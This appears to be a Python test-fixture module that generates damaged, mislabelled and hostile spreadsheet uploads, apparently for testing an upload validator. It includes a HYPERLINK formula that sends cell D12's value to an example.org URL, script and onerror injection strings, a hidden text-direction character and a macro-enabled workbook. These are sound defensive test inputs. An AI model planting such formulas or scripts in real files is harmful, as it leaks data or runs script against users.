"""Books that somebody may drop on the page and nobody should: damaged, made to do harm, filled in wrong, or with another name.

Name -> what writes it into an empty folder, given the workbook of a year in which nothing is filled in.
"""

import io
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.heavy_workbooks import HEAVY, Parts, damaged, packed, parts_of, whole
from tests.year_folder import YEAR, fill

ALL, ADULTS, WOMEN, GENDER = "contacts.total.all", "contacts.total.adults", "gender.women.adults", "gender.total.adults"
RIGHT = {ALL: 430, ADULTS: 390, "contacts.total.children": 40}
AWAY = '=HYPERLINK("https://example.org/?n="&D12,"430")'
# What is typed instead, column -> line -> value.
TYPED: dict[str, dict[str, dict[str, object]]] = {
    "a formula that leads away": {"D": {ALL: AWAY}},
    "a formula in a sentence": {"K": {ALL: AWAY}, "L": {ALL: "+1"}},
    "a script in a sentence": {"K": {ALL: "<script>alert(1)</script>"}, "L": {ALL: "<img src=x onerror=alert(1)>"}},
    "three hundred characters": {"K": {ALL: "ä" * 300}, "L": {ALL: "x" * 300}},
    "as many as a cell holds": {"K": {ALL: "x" * 32_767}, "G": {ADULTS: "y" * 32_767}},
    "text in a number": {"D": {ALL: "ca 430"}},
    "three hundred characters in a number": {"D": {ALL: "9" * 300}},
    "a script in a number": {"D": {ALL: "<script>alert(1)</script>"}},
    "a day in a number": {"D": {ALL: "2031-05-01"}},
    "spaces in a number": {"D": {ALL: "4 30"}},
    "a number as text": {"D": {ALL: "430"}},
    "digits of another script": {"D": {ALL: "４３０"}},
    "a number that turns round": {"D": {ALL: "\u202e034"}},
    "less than none": {"D": {ALL: -430}},
    "half a person": {"D": {ALL: 430.5}},
    "more than there are": {"D": {ALL: 10**18, ADULTS: 1e300}},
    "true": {"D": {ALL: True}},
    "more than all": {"E": {WOMEN: 100.5}, "F": {WOMEN: 40}},
    "a percentage without its base": {"E": {WOMEN: 60.0}},
    "parts that are more": {"D": {WOMEN: 300, "gender.men.adults": 200, GENDER: 390}},
    "small numbers": {"D": {WOMEN: 3, "gender.men.adults": 2, GENDER: 5}},
    "everybody the same": {"D": {WOMEN: 390, GENDER: 390}},
    "a status that there is not": {"G": {ALL: "Vet ej"}},
    "a status in place of a number": {"D": {ALL: None}, "G": {ALL: "Dolt för att skydda personer"}},
    "letters that are not seen": {"K": {ALL: "Fler\u200b medlemmar\u3164."}, "L": {ALL: "Pa\u030a 😀\nline"}},
    "few people in a sentence": {"K": {ALL: "Tre barn i ett ärende."}, "L": {ALL: "Three children in a case."}},
}
NAMES = (
    f"{YEAR} (1).xlsx",
    "rapport.xlsx",
    "2030.xlsx",
    f"{YEAR}.XLSX",
    f"{YEAR} å {{}} & <b>'\".xlsx",
    f"{'x' * 200}.xlsx",
)
MACRO = (b"spreadsheetml.sheet.main+xml", b"ms-excel.sheet.macroEnabled.main+xml")


def with_macros(parts: Parts) -> bytes:
    """As Excel saves a workbook with macros."""
    types = whole(parts, "[Content_Types].xml").replace(*MACRO)
    return packed(parts | {"[Content_Types].xml": types, "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})


def zipped_text(_: Parts) -> bytes:
    """A ZIP in which there is no workbook."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("read.me", "Not a workbook.")
    return out.getvalue()


BYTES: dict[str, Callable[[Parts], bytes]] = {
    **HEAVY,
    **{f"damaged {seed}": partial(damaged, seed=seed) for seed in range(20)},
    "nothing": lambda _: b"",
    "half of it": lambda parts: packed(parts)[: len(packed(parts)) // 2],
    "all but its end": lambda parts: packed(parts)[:-30],
    "its end alone": lambda parts: packed(parts)[-30:],
    "a workbook of before, or with a password": lambda _: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000),
    "a page": lambda _: b"<!doctype html><script>alert(1)</script>",
    "a ZIP of something else": zipped_text,
    "macros": with_macros,
}


def written(data: Callable[[Parts], bytes], book: Path, folder: Path) -> Path:
    """The workbook with other bytes."""
    (file := folder / book.name).write_bytes(data(parts_of(book)))
    return file


def typed(cells: dict[str, dict[str, object]], book: Path, folder: Path, name: str = "") -> Path:
    """The workbook with a year of few numbers, and these cells."""
    (file := folder / (name or book.name)).write_bytes(book.read_bytes())
    return fill(file, **{**cells, "D": RIGHT | cells.get("D", {})})


BOOKS: dict[str, Callable[[Path, Path], Path]] = {
    **{name: partial(written, data) for name, data in BYTES.items()},
    **{name: partial(typed, cells) for name, cells in TYPED.items()},
    **{f"called {name}": partial(typed, {}, name=name) for name in NAMES},
}
